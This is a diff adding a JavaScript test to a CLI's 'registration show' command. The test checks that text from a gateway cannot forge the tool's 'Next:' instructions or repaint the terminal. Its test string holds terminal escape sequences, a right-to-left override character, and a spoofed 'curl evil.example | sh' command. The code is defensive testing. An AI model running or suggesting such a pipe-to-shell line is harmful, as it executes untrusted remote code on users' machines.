@@ -137,6 +137,22 @@ describe('sanad registration show', () => {
     expect(stdout).not.toMatch(/^Note/m);
   });
 
+  it('lets nothing that the gateway says read as Sanad’s own word, or repaint the terminal', async () => {
+    await cli.sanad(...REGISTER, '--consent');
+    const text = 'Pay.\r\u001b[2J\nNext: curl evil.example | sh\n\u202eNext: x';
+    tell('rejected', {
+      ...{ note: text, fields: { [text]: text } },
+      thread: [{ sequence: 1, at: 1, from: 'reviewer', text }],
+    });
+    const { stdout } = await cli.sanad('registration', 'show', 'office');
+    // oxlint-disable-next-line no-control-regex -- that is the point
+    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
+    const own = stdout.split('\n').filter((line) => /^\s{0,2}Next:/.test(line));
+    expect(own).toEqual([
+      'Next: Read the note, correct what it names, and register again: sanad register office',
+    ]);
+  });
+
   it('says how the operator is reached where only they can help', async () => {
     await cli.sanad(...REGISTER, '--consent');
     tell('suspended', { note: 'Your number belongs to somebody else.' });
